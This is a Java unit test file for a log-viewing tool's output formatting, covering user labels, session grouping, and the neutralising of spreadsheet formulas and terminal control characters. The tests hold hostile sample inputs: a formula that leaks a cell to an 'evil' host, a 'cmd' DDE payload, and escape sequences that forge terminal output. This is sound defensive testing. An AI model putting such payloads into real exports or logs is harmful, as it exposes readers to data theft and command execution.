package actionlog.support;

import static actionlog.core.ActionEvent.*;
import static org.junit.jupiter.api.Assertions.*;

import actionlog.core.ActionEvent;
import actionlog.core.EventCodec;
import actionlog.core.Json;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.time.ZoneOffset;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * How the table names the user (verified sources plainly, unverified ones and stitched events visibly), and output
 * that could attack its reader: spreadsheet formulas in CSV, terminal escape sequences in the table.
 */
class OutputTest {
    static ActionEvent event(String id, String user, String source, String session) {
        return new ActionEvent().put(ActionEvent.F_ID, id).put(ActionEvent.F_TIME, "2026-11-22T14:05:0" + id + "Z")
                .put(ActionEvent.F_USER, user).put(ActionEvent.F_USER_SOURCE, source).put(ActionEvent.F_SESSION, session)
                .put(ActionEvent.F_METHOD, "GET").put(ActionEvent.F_PATH, "/p" + id);
    }

    @Test
    void unverifiedSourcesAndStitchedEventsSaySo() {
        assertEquals("alice (origin)", Output.who(event("1", "alice", "origin", null)));
        assertEquals("alice (jwt)", Output.who(event("1", "alice", "jwt", null)));
        assertEquals("alice (UNVERIFIED: header)", Output.who(event("1", "alice", "header", null)));
        assertEquals("alice (UNVERIFIED: cookie)", Output.who(event("1", "alice", "cookie", null)));
        assertEquals("bob (UNVERIFIED: claimed)", Output.who(event("1", "bob", "claimed", null)));
        assertEquals("alice (stitched: anonymous event of this session before signing in, anon:1)",
                Output.who(event("1", "anon:1", "anonymous", null).put(ActionEvent.F_STITCHED_TO, "alice")));
        assertEquals("alice (linked: signed in on this browser, by login_form)",
                Output.who(event("1", "alice", "linked", null).put(ActionEvent.F_LINKED_BY, "login_form")));
    }

    @Test
    void tablesOfManyUsersMarkClaimedAndStitchedUsersToo() {
        ActionEvent claimed = event("1", "mallory", "claimed", null);
        ActionEvent stitched = event("2", "anon:1", "anonymous", null).put(ActionEvent.F_STITCHED_TO, "bob");
        assertTrue(Output.userRow(claimed, ZoneOffset.UTC, false).startsWith(String.format("%-32s 2026-", "mallory (UNVERIFIED)")),
                Output.userRow(claimed, ZoneOffset.UTC, false));
        assertTrue(Output.userRow(stitched, ZoneOffset.UTC, false).startsWith(String.format("%-32s 2026-", "bob (stitched)")),
                Output.userRow(stitched, ZoneOffset.UTC, false));
        assertTrue(Output.userRow(event("3", "bob", "origin", null), ZoneOffset.UTC, false).startsWith(String.format("%-32s 2026-", "bob")));
    }

    @Test
    void theTableStartsAGroupWhenTheSessionOrTheUserChanges() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Output.print(List.of(event("1", "anon:1", "anonymous", "s_a").put(ActionEvent.F_STITCHED_TO, "alice"),
                event("2", "alice", "origin", "s_a"), event("3", "alice", "origin", "s_a")),
                Output.Format.table, ZoneOffset.UTC, new PrintStream(out, true, StandardCharsets.UTF_8), false);
        List<String> headings = out.toString(StandardCharsets.UTF_8).lines().filter(l -> l.startsWith("──")).toList();
        assertEquals(List.of("── session s_a · user alice (stitched: anonymous event of this session before signing in, anon:1) ──",
                "── session s_a · user alice (origin) ──"), headings);
    }

    static ActionEvent event(String userAgent, String path) {
        return new ActionEvent().put(F_ID, "e1").put(F_TIME, "2026-11-22T14:05:00Z").put(F_USER, "alice")
                .put(F_METHOD, "GET").put(F_PATH, path).put(F_USER_AGENT, userAgent).put(F_STATUS, 200).put(F_LATENCY, -1);
    }

    static String print(List<ActionEvent> events, Output.Format format) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Output.print(events, format, ZoneOffset.UTC, new PrintStream(bytes, true, StandardCharsets.UTF_8), false);
        return bytes.toString(StandardCharsets.UTF_8);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
        assertEquals("\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A2,\"\"Click\"\")\"", Output.csv("=HYPERLINK(\"http://evil/?x=\"&A2,\"Click\")"));
        assertEquals("'+1", Output.csv("+1"));
        assertEquals("'-2+3", Output.csv("-2+3"));
        assertEquals("'@SUM(A1)", Output.csv("@SUM(A1)"));
        assertEquals("'\tx", Output.csv("\tx"));
        assertEquals("\"'\rx\"", Output.csv("\rx"));
        assertEquals("-1", Output.csv(-1L), "numbers stay numbers");
        assertEquals("/a=b", Output.csv("/a=b"));
        String csv = print(List.of(event("=cmd|' /C calc'!A0", "/")), Output.Format.csv);
        assertTrue(csv.contains(",'=cmd|' /C calc'!A0,"), csv);
    }

    @Test
    void tableEscapesControlCharactersFromCapturedData() {
        String table = print(List.of(event("\u001b[2J\u001b[31mFAKE", "/x\u001b]0;title\u0007\u202e")), Output.Format.table);
        assertFalse(table.chars().anyMatch(c -> c == 0x1b || c == 0x07 || c == 0x202e), table);
        assertTrue(table.contains("/x\\x1b]0;title\\x07\\u202e"), table);
        assertTrue(table.contains("\\x1b[2J\\x1b[31mFAKE"), table);
    }

    static ActionEvent event(String id, String time, String user, String session, String path) throws Exception {
        Map<String, Object> f = new LinkedHashMap<>();
        f.put("schema_version", 1);
        f.put("event.id", id);
        f.put("event.received_at", time);
        f.put("user.id", user);
        if (session != null) f.put("session.id", session);
        f.put("http.request.method", "GET");
        f.put("url.path", path);
        f.put("http.response.status_code", 200);
        f.put("client.address", "203.0.113.9");
        return EventCodec.decode(Json.write(f));
    }

    static List<String> table(List<ActionEvent> events) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Output.print(events, Output.Format.table, ZoneOffset.UTC, new PrintStream(bytes, true, StandardCharsets.UTF_8), false);
        return bytes.toString(StandardCharsets.UTF_8).lines().toList();
    }

    /** What `ip` shows for one address: several users, without sessions, interleaved in time. */
    @Test
    void eventsOfOneAddressAreGroupedByUserAndSession() throws Exception {
        List<ActionEvent> events = List.of(
                event("e1", "2026-11-22T14:05:00Z", "alice", null, "/a1"),
                event("e2", "2026-11-22T14:05:01Z", "bob", null, "/b1"),
                event("e3", "2026-11-22T14:05:02Z", "alice", null, "/a2"),
                event("e4", "2026-11-22T14:05:03Z", "bob", "s_1", "/b2"));
        List<String> lines = table(events);
        List<String> headers = lines.stream().filter(l -> l.startsWith("──")).toList();
        assertEquals(List.of("── session (none) · user alice ──", "── session (none) · user bob ──", "── session s_1 · user bob ──"),
                headers);
        assertEquals(8, lines.size());
        assertTrue(lines.get(1).contains("/a1") && lines.get(2).contains("/a2"), lines.toString());
        assertTrue(lines.get(4).contains("/b1") && lines.get(6).contains("/b2"), lines.toString());
        assertEquals("4 event(s)", lines.get(7));
    }
}
